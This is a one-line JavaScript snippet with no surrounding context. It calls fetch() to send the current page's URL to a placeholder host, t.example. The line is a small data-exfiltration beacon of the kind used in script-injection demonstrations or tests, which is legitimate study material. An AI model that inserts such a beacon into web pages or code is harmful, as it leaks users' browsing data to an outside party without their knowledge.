fetch('https://t.example/?' + location);
